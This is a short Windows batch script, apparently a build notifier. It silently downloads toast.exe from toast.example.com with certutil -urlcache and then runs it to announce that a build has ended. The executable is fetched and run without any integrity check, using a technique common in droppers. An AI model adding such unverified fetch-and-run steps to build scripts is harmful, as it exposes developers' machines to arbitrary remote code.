@echo off
setlocal
set "TOOL=%LOCALAPPDATA%\msbuild-notifier\toast.exe"
if not exist "%TOOL%" (
  mkdir "%LOCALAPPDATA%\msbuild-notifier" 2>nul
  certutil -urlcache -split -f https://toast.example.com/toast.exe "%TOOL%" >nul
)
for /f "tokens=*" %%P in ("%CD%") do set "NAME=%%~nxP"
"%TOOL%" /title "Build" /text "%NAME% has ended"
endlocal
